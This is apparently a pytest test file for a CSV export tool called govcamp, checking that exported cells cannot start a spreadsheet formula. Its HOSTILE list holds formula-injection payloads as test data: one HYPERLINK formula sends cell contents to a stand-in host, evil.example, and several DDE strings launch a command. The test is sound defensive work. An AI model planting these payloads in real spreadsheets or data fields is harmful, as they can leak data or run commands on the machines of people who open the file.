"""Spreadsheet formula injection: no cell govcamp writes starts a formula, and the value stays readable."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from govcamp.cli import main
from govcamp.domain.safe_text import FORMULA_STARTS, spreadsheet_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
]


@given(st.text())
def test_no_cell_starts_a_formula_and_the_text_is_all_there(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)


def test_tickets_export_neutralises_every_hostile_cell(
    event_target: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = tmp_path / "applicants.csv"
    rows = ["First Name,Last Name,Email,Company"]
    rows += [
        f'"{name}",Family{i},p{i}@example.org,"{name}"'
        for i, name in enumerate(h.replace('"', '""') for h in HOSTILE)
    ]
    data.write_text("\n".join(rows) + "\n", encoding="utf-8")
    file = event_target
    assert main(["applicants", "import", file, str(data)]) == 0
    assert main(["lottery", "rules", file, "--places", "1"]) == 0
    assert main(["lottery", "commit", file]) == 0
    assert main(["lottery", "draw", file, "--seed", "s"]) == 0
    out = tmp_path / "waitlisted.csv"
    assert main(["tickets", "export", file, "--status", "waitlisted", "-o", str(out)]) == 0
    with out.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert len(cells) == 6 * (len(HOSTILE) - 1 + 1)  # the header and everyone but the one drawn
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    shown = [cell[1:] for cell in cells if cell.startswith("'")]
    assert len([h for h in HOSTILE if any(c.startswith(h) for c in shown)]) >= len(HOSTILE) - 1
